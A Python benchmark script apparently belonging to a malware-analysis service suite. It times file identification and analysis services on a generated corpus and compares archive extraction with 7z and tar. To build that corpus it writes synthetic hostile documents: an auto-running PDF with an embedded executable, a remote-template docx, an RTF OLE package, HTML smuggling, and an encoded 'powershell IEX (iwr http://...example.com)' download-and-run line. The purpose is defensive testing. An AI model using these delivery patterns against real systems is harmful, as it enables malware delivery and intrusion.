"""Throughput of every registered service on the identification corpus, and Extract against ``7z x``.

One run, one process:

1. assemble the corpus: ``tests/corpus.py`` (the 500+ generated files of the identification
   test: text, scripts, images, executables, databases, archives), Office/PDF/script documents
   built with the test suite's writers (macros, remote templates, embedded executables, active
   PDFs), Windows PE files (the shipped launchers and more built by ``tests/formats.py``), and
   one zip, one 7z and one tar.gz of the same mixed content (log-like text, random bytes, word
   soup; about twice ``--max-size`` of content, so each archive stays near or under it);
2. identify every file once (``identify_path``), timed;
3. run every service of ``registry.services()``, all stages, over the files its
   ``accepts``/``rejects`` take, with its default parameters and a fresh workdir per file:
   wall and CPU seconds, MB/s (of the files given to it) and files/s (one untimed warm-up call
   per service first, so rule compilation and lazy tables are not counted; best of ``--repeat``
   passes kept);
4. extract the three archives with the Extract service and with ``7z x`` (and ``tar -x`` for the
   tar.gz), side by side, best of ``--repeat``: MB/s of extracted content and the ratio
   service/reference (> 1 means the service is slower).

Prints one JSON document. Not a test; needs ``7z`` (p7zip-full) and ``tar`` on PATH.

    .venv/bin/python bench/services.py --max-files 800 --max-size 4194304 --repeat 3
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import os
import platform
import random
import resource
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from assay.services.base import FileRequest, Result, Service
from assay.services.extract import Extract
from assay.services.identify import Identity, identify_path
from assay.services.registry import services
from tests.helpers import corpus as identification_corpus
from tests.helpers import formats as file_formats
from tests.helpers.paths import PE_SAMPLES
from tests.unit import test_service_documents as builders

DOCUMENTS = 120
PE_FILES = 40
PE_FIRST_INDEX = 1000  # of tests.helpers.formats.pe_file: past the indices the identification corpus uses
EXTRACT_PARAMS = {"max_extracted": 10_000}  # the comparison extracts everything, as 7z does
WORDS = ("alpha", "beta", "gamma", "delta", "packet", "socket", "registry", "beacon", "payload", "dropper")


# -- the corpus ----------------------------------------------------------------------------------


def mixed_content(total: int, seed: int = 1) -> dict[str, bytes]:
    """About ``total`` bytes in files of 64 KiB to 1 MiB: a third log lines, a third random, a third words."""
    rng = random.Random(seed)
    files: dict[str, bytes] = {}
    made = 0
    while made < total:
        size = min(rng.randint(64 << 10, 1 << 20), total - made)
        index = len(files)
        if index % 3 == 0:
            line = f"2026-11-23 12:00:{index % 60:02d} INFO worker {index} handled request\n".encode()
            data = (line * (size // len(line) + 1))[:size]
        elif index % 3 == 1:
            data = rng.randbytes(size)
        else:
            data = " ".join(rng.choice(WORDS) for _ in range(size // 6)).encode()[:size]
        files[f"dir{index % 4}/file{index:03d}.bin"] = data
        made += len(data)
    return files


def write_archives(root: Path, files: dict[str, bytes]) -> dict[str, Path]:
    """The same files as ``bench.zip``, ``bench.7z`` (by ``7z a``) and ``bench.tar.gz``."""
    source = root / "archive-source"
    for name, data in files.items():
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_bytes(data)
    archives = {"zip": root / "bench.zip", "7z": root / "bench.7z", "tar.gz": root / "bench.tar.gz"}
    with zipfile.ZipFile(archives["zip"], "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    command = ["7z", "a", "-y", "-mx=5", str(archives["7z"]), "."]
    subprocess.run(command, cwd=source, check=True, capture_output=True)
    with tarfile.open(archives["tar.gz"], mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    shutil.rmtree(source)
    return archives


def _active_pdf(i: int, exe: bytes) -> bytes:
    js = b"var u='http://p%d.example.com/'; app.alert(u);" % i
    return builders.pdf(
        builders.obj(1, b"<< /Type /Catalog /OpenAction 2 0 R >>"),
        builders.obj(2, b"<< /S /JavaScript /JS 3 0 R >>"),
        builders.obj(3, b"<< /Filter /FlateDecode >>", zlib.compress(js)),
        builders.obj(4, b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
        builders.obj(5, b"<< /Type /EmbeddedFile /Filter /FlateDecode >>", zlib.compress(exe)),
        *(builders.obj(10 + k, b"<< /Type /Page /Contents (text %d) >>" % k) for k in range(i % 200)),
    )


def _template_docx(i: int, exe: bytes) -> bytes:
    rels = builders.rels(("attachedTemplate", f"http://t{i}.example.com/t.dotm", True))
    return builders.ooxml(
        {
            "word/document.xml": builders.DOCUMENT_XML * (1 + i % 20),
            "word/_rels/settings.xml.rels": rels,
            "word/embeddings/oleObject1.bin": exe,
        }
    )


def _package_rtf(i: int, exe: bytes) -> bytes:
    package = builders.ole1_package(b"evil%d.exe" % i, exe).hex().encode()
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + package + b"}}}"


def _smuggling_html(i: int, exe: bytes) -> bytes:
    blob = base64.b64encode(exe).decode()
    return (
        f'<html><iframe src="http://f{i}.example.org" width=0 height=0></iframe>'
        f'<script>var d=atob("{blob}");</script></html>'
    ).encode()


def _encoded_batch(i: int, exe: bytes) -> bytes:
    command = base64.b64encode(f"IEX (iwr http://s{i}.example.com/a)".encode("utf-16-le")).decode()
    return f"powershell -enc {command}\r\n".encode() * (1 + i % 30)


def _macro_doc(i: int, exe: bytes) -> bytes:
    return builders.macro_doc(builders.DROPPER_MACRO + f"' {i}\r\n" * (i % 50))


DOCUMENT_MAKERS: tuple[tuple[str, Callable[[int, bytes], bytes]], ...] = (
    ("doc", _macro_doc),
    ("docx", _template_docx),
    ("rtf", _package_rtf),
    ("pdf", _active_pdf),
    ("html", _smuggling_html),
    ("bat", _encoded_batch),
)


def write_documents(folder: Path, count: int, exe: bytes) -> list[Path]:
    """Office, PDF and script documents of every hostile kind the tests build, varied by index."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(count):
        suffix, make = DOCUMENT_MAKERS[i % len(DOCUMENT_MAKERS)]
        path = folder / f"doc{i}.{suffix}"
        path.write_bytes(make(i, exe))
        paths.append(path)
    return paths


def write_executables(folder: Path, limit: int, max_size: int) -> list[Path]:
    """The launchers shipped in ``tests/data/pe``, then PE files built by ``tests/formats.py``
    (PE32 and PE32+; console, GUI and DLL) up to ``limit`` files, none larger than ``max_size``."""
    folder.mkdir(parents=True, exist_ok=True)
    found = [path for path in sorted(PE_SAMPLES.glob("*.exe")) if path.stat().st_size <= max_size]
    for index in range(max(0, limit - len(found))):
        data = file_formats.pe_file(PE_FIRST_INDEX + index)
        if len(data) <= max_size:
            path = folder / f"pe{index}.exe"
            path.write_bytes(data)
            found.append(path)
    return found


def spread(paths: list[Path], count: int) -> list[Path]:
    """``count`` of ``paths`` taken evenly across the list, so every source keeps its share."""
    if count >= len(paths):
        return paths
    return [paths[i * len(paths) // count] for i in range(count)]


@dataclass
class Corpus:
    paths: list[Path]
    archives: dict[str, Path]
    content_bytes: int
    content_files: int
    sources: dict[str, int]


def assemble(folder: Path, max_files: int | None, max_size: int) -> Corpus:
    system = [p for p in identification_corpus.corpus(folder / "generated") if p.stat().st_size <= max_size]
    documents = write_documents(folder / "documents", DOCUMENTS, builders.EXE)
    executables = write_executables(folder / "executables", PE_FILES, max_size)
    content = mixed_content(2 * max_size)
    archives = write_archives(folder, content)
    others = spread(system + documents + executables, max(0, (max_files or 1 << 30) - len(archives)))
    picked = set(others)
    return Corpus(
        paths=others + list(archives.values()),
        archives=archives,
        content_bytes=sum(map(len, content.values())),
        content_files=len(content),
        sources={
            "identification_corpus": sum(p in picked for p in system),
            "test_documents": sum(p in picked for p in documents),
            "pe_files": sum(p in picked for p in executables),
            "bench_archives": len(archives),
        },
    )


# -- identification and the service passes -------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    path: Path
    size: int
    sha256: str
    identity: Identity


@dataclass
class Clock:
    """Wall and CPU seconds summed over timed calls."""

    wall: float = 0.0
    cpu: float = 0.0
    slowest: tuple[float, str] = (0.0, "")

    def time(self, call: Callable[[], Any], label: str) -> Any:
        wall, cpu = time.perf_counter(), time.process_time()
        value = call()
        spent = time.perf_counter() - wall
        self.cpu += time.process_time() - cpu
        self.wall += spent
        self.slowest = max(self.slowest, (spent, label))
        return value

    def rates(self, files: int, size: int) -> dict[str, Any]:
        return {
            "files": files,
            "mb": round(size / 1e6, 2),
            "wall_s": round(self.wall, 3),
            "cpu_s": round(self.cpu, 3),
            "mb_per_s": round(size / 1e6 / self.wall, 2) if self.wall else None,
            "files_per_s": round(files / self.wall, 1) if self.wall else None,
        }


def identify_all(paths: list[Path]) -> tuple[list[Sample], dict[str, Any]]:
    clock = Clock()
    samples = []
    for path in paths:
        identity = clock.time(lambda p=path: identify_path(p), path.name)
        sha256 = hashlib.sha256(path.read_bytes()).hexdigest()
        samples.append(Sample(path, path.stat().st_size, sha256, identity))
    return samples, clock.rates(len(samples), sum(s.size for s in samples))


def request_for(sample: Sample, params: dict[str, Any], workdir: Path) -> FileRequest:
    return FileRequest(
        path=sample.path,
        sha256=sample.sha256,
        name=sample.path.name,
        size=sample.size,
        file_type=sample.identity.file_type,
        mime=sample.identity.mime,
        params=params,
        workdir=workdir,
    )


@dataclass
class Pass:
    """One pass of a service over its files: the clock and what the results held."""

    clock: Clock = field(default_factory=Clock)
    counts: Counter[str] = field(default_factory=Counter)
    errors: list[str] = field(default_factory=list)

    def record(self, result: Result) -> None:
        self.counts["children"] += len(result.extracted)
        self.counts["tags"] += len(result.tags())
        self.counts["heuristic_hits"] += len(result.heuristic_ids())
        self.counts["anomalies"] += len(result.anomalies)


def one_pass(service: Service, samples: list[Sample], scratch: Path) -> Pass:
    run = Pass()
    params = service.options({})
    for sample in samples:
        workdir = Path(tempfile.mkdtemp(dir=scratch))
        request = request_for(sample, params, workdir)
        try:
            run.record(run.clock.time(lambda r=request: service.execute(r), sample.path.name))
        except Exception as error:  # services must never raise; count the ones that do
            run.errors.append(f"{sample.path.name}: {type(error).__name__}: {error}"[:200])
        shutil.rmtree(workdir, ignore_errors=True)
    return run


def measure_service(service: Service, samples: list[Sample], scratch: Path, repeat: int) -> dict[str, Any]:
    taken = [s for s in samples if service.accepts_type(s.identity.file_type)]
    figures: dict[str, Any] = {"stage": service.stage.name.lower()}
    if not taken:
        return figures | {"files": 0, "note": "no file of the corpus has a type this service accepts"}
    one_pass(service, taken[:1], scratch)  # warm-up: rule compilation, lazy tables, imports
    best = min((one_pass(service, taken, scratch) for _ in range(repeat)), key=lambda run: run.clock.wall)
    figures |= best.clock.rates(len(taken), sum(s.size for s in taken))
    figures["slowest_file"] = {"name": best.clock.slowest[1], "wall_s": round(best.clock.slowest[0], 3)}
    figures |= dict(best.counts)
    figures["escaped_exceptions"] = len(best.errors)
    if best.errors:
        figures["first_exceptions"] = best.errors[:3]
    return figures


# -- Extract against 7z x ------------------------------------------------------------------------


def _count_files(folder: Path) -> int:
    return sum(1 for path in folder.rglob("*") if path.is_file())


def extract_with_service(archive: Path, workdir: Path) -> int:
    request = FileRequest(
        path=archive,
        sha256=hashlib.sha256(archive.read_bytes()).hexdigest(),
        name=archive.name,
        size=archive.stat().st_size,
        params=Extract().options(EXTRACT_PARAMS),
        workdir=workdir,
    )
    return len(Extract().execute(request).extracted)


def extract_with_7z(archive: Path, workdir: Path) -> int:
    subprocess.run(["7z", "x", "-y", f"-o{workdir}", str(archive)], check=True, capture_output=True)
    return _count_files(workdir)


def extract_with_tar(archive: Path, workdir: Path) -> int:
    subprocess.run(["tar", "-x", "-f", str(archive), "-C", str(workdir)], check=True, capture_output=True)
    return _count_files(workdir)


def _children_cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def best_extraction(
    runner: Callable[[Path, Path], int], archive: Path, scratch: Path, repeat: int
) -> tuple[float, float, int]:
    """Best wall seconds of ``repeat`` runs, the CPU seconds of that run (ours and children's), files out."""
    best, best_cpu, count = float("inf"), 0.0, 0
    for _ in range(repeat):
        workdir = Path(tempfile.mkdtemp(dir=scratch))
        wall, cpu = time.perf_counter(), time.process_time() + _children_cpu()
        count = runner(archive, workdir)
        spent = time.perf_counter() - wall
        if spent < best:
            best, best_cpu = spent, time.process_time() + _children_cpu() - cpu
        shutil.rmtree(workdir)
    return best, best_cpu, count


def compare_extraction(corpus: Corpus, scratch: Path, repeat: int) -> dict[str, Any]:
    megabytes = corpus.content_bytes / 1e6
    report: dict[str, Any] = {"content_mb": round(megabytes, 2), "content_files": corpus.content_files}
    for kind, archive in corpus.archives.items():
        service, service_cpu, children = best_extraction(extract_with_service, archive, scratch, repeat)
        sevenzip, sevenzip_cpu, sevenzip_files = best_extraction(extract_with_7z, archive, scratch, repeat)
        row = {
            "archive_mb": round(archive.stat().st_size / 1e6, 2),
            "service_children": children,
            "7z_x_files": sevenzip_files,
            "service_mb_per_s": round(megabytes / service, 1),
            "7z_x_mb_per_s": round(megabytes / sevenzip, 1),
            "ratio_service_vs_7z_wall": round(service / sevenzip, 2),
            "ratio_service_vs_7z_cpu": round(service_cpu / sevenzip_cpu, 2) if sevenzip_cpu else None,
        }
        if kind == "tar.gz":
            tar, tar_cpu, _ = best_extraction(extract_with_tar, archive, scratch, repeat)
            row["tar_x_mb_per_s"] = round(megabytes / tar, 1)
            row["ratio_service_vs_tar_wall"] = round(service / tar, 2)
            row["ratio_service_vs_tar_cpu"] = round(service_cpu / tar_cpu, 2) if tar_cpu else None
            row["note"] = "7z x extracts only the inner .tar (one level); tar -x extracts the members"
        report[kind] = row
    return report


# -- the run -------------------------------------------------------------------------------------


def parse_arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--max-files", type=int, default=None, help="files in the corpus at most (default: all)")
    parser.add_argument(
        "--max-size",
        type=int,
        default=identification_corpus.MAX_SIZE,
        help="largest file taken, bytes; the bench archives hold twice this much content (default 4 MiB)",
    )
    parser.add_argument("--repeat", type=int, default=3, help="passes per measurement, best kept (default 3)")
    return parser.parse_args()


def corpus_summary(corpus: Corpus, samples: list[Sample]) -> dict[str, Any]:
    types = Counter(s.identity.file_type.split("/")[0] for s in samples)
    return {
        "files": len(samples),
        "mb": round(sum(s.size for s in samples) / 1e6, 2),
        "sources": corpus.sources,
        "distinct_types": len({s.identity.file_type for s in samples}),
        "families": dict(types.most_common()),
    }


def main() -> None:
    args = parse_arguments()
    for tool in ("7z", "tar"):
        if shutil.which(tool) is None:
            sys.exit(f"{tool} is not installed (apt-get install p7zip-full tar)")
    started, load_before = time.perf_counter(), os.getloadavg()
    with tempfile.TemporaryDirectory(prefix="bench-services-") as tmp:
        root = Path(tmp)
        scratch = root / "scratch"
        scratch.mkdir()
        corpus = assemble(root / "corpus", args.max_files, args.max_size)
        samples, identification = identify_all(corpus.paths)
        report: dict[str, Any] = {
            "machine": {"cpus": os.cpu_count(), "python": platform.python_version()},
            "arguments": vars(args),
            "corpus": corpus_summary(corpus, samples),
            "identification": identification,
            "services": {s.name: measure_service(s, samples, scratch, args.repeat) for s in services()},
            "extract_vs_7z_x": compare_extraction(corpus, scratch, args.repeat),
        }
    report["machine"]["load_average_before"] = [round(x, 2) for x in load_before]
    report["machine"]["load_average_after"] = [round(x, 2) for x in os.getloadavg()]
    report["machine"]["bench_wall_s"] = round(time.perf_counter() - started, 1)
    print(json.dumps(report, indent=2))


if __name__ == "__main__":
    main()
